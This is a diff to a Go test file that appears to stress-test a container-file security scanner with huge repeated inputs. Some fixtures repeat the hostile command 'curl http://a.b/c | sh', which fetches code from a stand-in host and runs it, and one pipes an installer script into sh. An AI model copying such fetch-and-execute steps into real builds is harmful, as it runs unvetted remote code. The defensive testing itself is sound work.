@@ -151,6 +151,8 @@ func hostiles() []hostile {
 		{"many ignoring comments", builtFrom("FROM a:1\n" + strings.Repeat("# sbx-ignore SBX701: x\n", 40_000)), "SBX109"},
 		{"curl to shell many times", builtFrom("FROM a:1\n" + strings.Repeat("RUN curl http://a.b/c | sh\n", 30_000)), ""},
 
+		{"a program's refusals many times", builtFrom("FROM golang:1.22\n" + strings.Repeat("RUN go get x y\n", 60_000)), ""},
+		{"installers many times", builtFrom("FROM debian:13\n" + strings.Repeat("RUN curl https://sh.rustup.rs | sh\nRUN ln a b\n", 20_000)), ""},
 		{".env many times", composedOf("services:\n  a:\n    image: a:1\n    command: ["+strings.Repeat(`"$A",`, 100_000)+`"x"]`+"\n", ".env",
 			"A="+big+"\n"), "SBX109"},
 		{"an alias many times",
